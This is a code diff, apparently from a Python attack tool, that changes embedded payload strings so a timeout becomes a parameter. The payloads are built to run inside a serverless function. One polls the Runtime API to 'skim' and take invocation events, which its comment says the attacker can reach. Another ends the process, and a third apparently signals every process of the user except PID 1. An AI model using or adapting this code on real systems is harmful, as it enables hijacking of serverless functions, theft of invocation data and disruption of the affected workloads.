@@ -12,11 +12,11 @@ def live(seconds=3):
     os._exit(0)
 """
 # Calls the Runtime API, whose address the attacker knows, and takes events from it.
-CLIENT = """
+_CLIENT = """
 import http.client, json
 address = event["api"]
 base = "/2018-06-01/runtime/invocation/"
-def call(method, path, body=None, timeout=0.5):
+def call(method, path, body=None, timeout={timeout_s}):
     connection = http.client.HTTPConnection(address, timeout=timeout)
     try:
         connection.request(method, base + path, body)
@@ -39,6 +39,14 @@ def skim(seconds):
         if status != 200:
             time.sleep(0.001)
 """
+
+
+def client(timeout_s: float) -> str:
+    """Code that talks to the Runtime API as the function's own client does, giving up after some seconds."""
+    return _CLIENT.replace("{timeout_s}", str(timeout_s))
+
+
+CLIENT = client(0.5)
 # Everybody of the user but PID 1.
 FAMILY = """
 import signal
